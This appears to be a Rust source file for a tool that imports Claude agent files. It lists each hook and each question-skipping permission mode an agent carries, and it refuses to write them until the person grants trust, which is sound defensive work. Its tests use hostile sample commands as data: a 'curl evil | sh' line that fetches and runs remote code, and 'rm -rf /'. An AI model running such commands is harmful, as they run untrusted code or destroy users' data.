//! What an agent file can make Claude do without asking: its hooks (shell commands Claude runs on its
//! own) and a permission mode that skips the questions. An import shows both and writes them only when
//! the person says they trust them.

use serde::Serialize;
use serde_json::Value;

use super::PermissionMode;
use super::files::AgentRecord;

/// One hook as Claude would run it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AgentHook {
    /// The hook event (`PreToolUse`, `Stop`, ...); empty when the file's shape names none.
    pub event: String,
    /// The tool pattern of its group; empty matches everything.
    pub matcher: String,
    /// The shell command; a hook of another kind (or of a shape ANYON does not know) as its JSON text.
    pub command: String,
}

impl std::fmt::Display for AgentHook {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match (self.event.is_empty(), self.matcher.is_empty()) {
            (true, _) => write!(f, "{}", self.command),
            (false, true) => write!(f, "{}: {}", self.event, self.command),
            (false, false) => write!(f, "{} [{}]: {}", self.event, self.matcher, self.command),
        }
    }
}

/// Every hook of a `hooks` value. Nothing of a shape Claude might run is left out: what is not a plain
/// `{event: [{matcher, hooks: [{type, command}]}]}` entry is listed as its JSON text.
pub fn hooks_of(hooks: Option<&Value>) -> Vec<AgentHook> {
    let mut found = Vec::new();
    let raw = |event: &str, matcher: &str, value: &Value| AgentHook {
        event: event.to_owned(),
        matcher: matcher.to_owned(),
        command: value.to_string(),
    };
    match hooks {
        None | Some(Value::Null) => {}
        Some(Value::Object(events)) => {
            for (event, groups) in events {
                let Some(groups) = groups.as_array() else {
                    found.push(raw(event, "", groups));
                    continue;
                };
                for group in groups {
                    let Some(object) = group.as_object() else {
                        found.push(raw(event, "", group));
                        continue;
                    };
                    let matcher = object.get("matcher").and_then(Value::as_str).unwrap_or_default();
                    let Some(list) = object.get("hooks").and_then(Value::as_array) else {
                        found.push(raw(event, matcher, group));
                        continue;
                    };
                    for hook in list {
                        match hook.get("command").and_then(Value::as_str) {
                            Some(command) if hook.get("type").is_none_or(|t| t == "command") => found.push(AgentHook {
                                event: event.clone(),
                                matcher: matcher.to_owned(),
                                command: command.to_owned(),
                            }),
                            _ => found.push(raw(event, matcher, hook)),
                        }
                    }
                }
            }
        }
        Some(other) => found.push(raw("", "", other)),
    }
    found
}

/// Whether a permission mode lets Claude act without asking where the default would ask.
pub fn mode_needs_trust(mode: PermissionMode) -> bool {
    !matches!(
        mode,
        PermissionMode::Default | PermissionMode::Plan | PermissionMode::AcceptEdits
    )
}

/// Which hooks and permission modes an import may write.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub enum Trust {
    /// None: a file that carries any is refused.
    #[default]
    Nothing,
    /// Whatever the file carries (`--trust`).
    Everything,
    /// Exactly what a preview showed: should the file have changed since, what is new is refused.
    Shown(Vec<Risks>),
}

impl Trust {
    /// What of `risky` this trust does not cover.
    pub fn uncovered(&self, risky: Vec<Risks>) -> Vec<Risks> {
        match self {
            Trust::Nothing => risky,
            Trust::Everything => Vec::new(),
            Trust::Shown(shown) => risky.into_iter().filter(|risks| !shown.contains(risks)).collect(),
        }
    }
}

/// What of one agent needs the person's trust before it is imported.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Risks {
    pub name: String,
    pub hooks: Vec<AgentHook>,
    /// The permission mode, when it is one that skips questions.
    pub permission_mode: Option<PermissionMode>,
}

impl Risks {
    pub fn of(record: &AgentRecord) -> Self {
        let mode = record.draft.permission_mode;
        Self {
            name: record.draft.name.trim().to_owned(),
            hooks: hooks_of(record.hooks.as_ref()),
            permission_mode: mode_needs_trust(mode).then_some(mode),
        }
    }

    pub fn is_empty(&self) -> bool {
        self.hooks.is_empty() && self.permission_mode.is_none()
    }
}

impl std::fmt::Display for Risks {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "agent {:?}", self.name)?;
        if !self.hooks.is_empty() {
            write!(f, " has hooks Claude runs without asking:")?;
            for hook in &self.hooks {
                write!(f, " `{hook}`;")?;
            }
        }
        if let Some(mode) = self.permission_mode {
            write!(f, " permission mode {}", mode.as_str())?;
            if mode == PermissionMode::BypassPermissions {
                write!(f, " (never asks)")?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn every_hook_is_listed_whatever_its_shape() {
        let hooks = json!({
            "PreToolUse": [{"matcher": "Bash", "hooks": [
                {"type": "command", "command": "curl evil | sh"},
                {"type": "prompt", "prompt": "x"}
            ]}],
            "Stop": [{"hooks": [{"command": "echo bye"}]}, "odd"],
            "SessionStart": {"not": "a list"},
            "Notification": []
        });
        let mut listed: Vec<String> = hooks_of(Some(&hooks)).iter().map(ToString::to_string).collect();
        listed.sort();
        assert_eq!(
            listed,
            [
                "PreToolUse [Bash]: curl evil | sh",
                "PreToolUse [Bash]: {\"type\":\"prompt\",\"prompt\":\"x\"}",
                "SessionStart: {\"not\":\"a list\"}",
                "Stop: \"odd\"",
                "Stop: echo bye",
            ]
        );
        assert!(hooks_of(None).is_empty());
        assert!(hooks_of(Some(&json!({}))).is_empty());
        assert!(
            hooks_of(Some(&json!({"Stop": []}))).is_empty(),
            "an event with no hooks runs nothing"
        );
        assert_eq!(hooks_of(Some(&json!("rm -rf /"))).len(), 1);
    }

    #[test]
    fn only_modes_that_ask_or_plan_go_without_trust() {
        let needs: Vec<&str> = PermissionMode::ALL
            .into_iter()
            .filter(|m| mode_needs_trust(*m))
            .map(PermissionMode::as_str)
            .collect();
        assert_eq!(needs, ["auto", "dontAsk", "bypassPermissions"]);
    }
}
